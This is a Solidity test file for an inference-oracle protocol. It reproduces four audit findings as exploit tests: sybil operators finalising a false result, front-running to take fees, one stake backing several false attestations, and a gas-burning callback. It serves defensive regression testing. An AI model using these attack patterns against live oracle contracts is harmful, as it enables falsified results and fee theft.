// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IInferenceOracle} from "../src/interfaces/IInferenceOracle.sol";
import {VeridictTest} from "./utils/VeridictTest.sol";
import {SQUARE_PROOF_BENEFICIARY} from "./utils/SquareFixture.sol";

/// Attacks of issue 11 that still succeed against the v1 attested mode (run once, then rewritten).
contract OldAttacksTest is VeridictTest {
    function _sybils(uint256 n) internal returns (uint256[] memory keys) {
        keys = new uint256[](n);
        address[] memory accounts = new address[](n);
        for (uint256 i; i < n; ++i) {
            (accounts[i], keys[i]) = makeAddrAndKey(string.concat("sybil", vm.toString(i)));
        }
        for (uint256 i = 1; i < n; ++i) {
            for (uint256 j = i; j > 0 && accounts[j] < accounts[j - 1]; --j) {
                (accounts[j], accounts[j - 1]) = (accounts[j - 1], accounts[j]);
                (keys[j], keys[j - 1]) = (keys[j - 1], keys[j]);
            }
        }
        for (uint256 i; i < n; ++i) {
            vm.deal(accounts[i], MIN_STAKE);
            vm.prank(accounts[i]);
            staking.register{value: MIN_STAKE}();
        }
    }

    /// Finding 1: three fresh minimum-stake operators make a lie final on a model without a verifier.
    function test_Attack1_SybilQuorumLieBecomesFinal() public {
        uint256[] memory keys = _sybils(3);
        uint256 id = _requestLarge(3);
        uint256[] memory lie = _words(0xdead);
        IInferenceOracle.Attestation memory a = _attestation(id, largeModel, largeInput, lie);
        bytes[] memory sigs = new bytes[](3);
        for (uint256 i; i < 3; ++i) sigs[i] = _sign(keys[i], a);
        oracle.submitAttestations(id, lie, sigs);
        vm.warp(block.timestamp + CHALLENGE_WINDOW);
        oracle.finalize(id);
        (, bytes32 outputHash) = oracle.getResult(id);
        assertEq(outputHash, _hashWords(lie), "the lie is final");
    }

    /// Finding 4: a stranger front-runs the honest quorum with its own and takes the whole fee.
    function test_Attack4_FrontRunnerTakesTheFee() public {
        uint256[] memory keys = _sybils(3);
        uint256 id = _requestSquare(IInferenceOracle.Mode.ATTESTED, 3);
        IInferenceOracle.Attestation memory a = _attestation(id, squareModel, squareInput, squareOutput);
        bytes[] memory sigs = new bytes[](3);
        for (uint256 i; i < 3; ++i) sigs[i] = _sign(keys[i], a);
        oracle.submitAttestations(id, squareOutput, sigs); // copied output, own signatures
        vm.warp(block.timestamp + CHALLENGE_WINDOW);
        oracle.finalize(id);
        assertGt(staking.getOperator(vm.addr(keys[0])).rewards, 0, "the stranger earned a share of the fee");
    }

    /// Finding 5: one minimum stake backs two lies at once; the second dispute slashes nothing.
    function test_Attack5_OneStakeBacksManyAttestations() public {
        uint256[] memory keys = _sybils(1);
        uint256 first = _requestSquare(IInferenceOracle.Mode.ATTESTED, 1);
        uint256 second = _requestSquare(IInferenceOracle.Mode.ATTESTED, 1);
        uint256[] memory lie = _words(squareOutput[0] + 1);
        bytes[] memory sigs = new bytes[](1);
        sigs[0] = _sign(keys[0], _attestation(first, squareModel, squareInput, lie));
        oracle.submitAttestations(first, lie, sigs);
        sigs[0] = _sign(keys[0], _attestation(second, squareModel, squareInput, lie));
        oracle.submitAttestations(second, lie, sigs);
        vm.prank(disputer);
        oracle.disputeWithProof(first, squareInput, squareOutput, SQUARE_PROOF_BENEFICIARY, squareProof);
        uint256 before = oracle.balanceOf(SQUARE_PROOF_BENEFICIARY);
        vm.prank(disputer);
        oracle.disputeWithProof(second, squareInput, squareOutput, SQUARE_PROOF_BENEFICIARY, squareProof);
        assertEq(oracle.balanceOf(SQUARE_PROOF_BENEFICIARY), before, "the second dispute paid nothing");
    }

    /// Finding 6: a 5M-gas callback costs the requester only the model fee; the deliverer pays the gas.
    function test_Attack6_CallbackGasIsNotPriced() public {
        GasEater eater = new GasEater();
        uint256 id = _requestSquare(IInferenceOracle.Mode.ZK, 0, address(eater), 5_000_000);
        uint256 before = requester.balance;
        vm.prank(fulfiller);
        oracle.fulfillWithProof{gas: 6_000_000}(id, squareInput, squareOutput, SQUARE_PROOF_BENEFICIARY, squareProof);
        assertEq(before, requester.balance, "the requester paid nothing for 5M gas");
        assertEq(oracle.balanceOf(SQUARE_PROOF_BENEFICIARY), FEE, "the prover got the bare fee for 5M gas of callback");
    }
}

contract GasEater {
    function onInferenceResult(uint256, uint256[] calldata) external pure {
        while (true) {}
    }
}
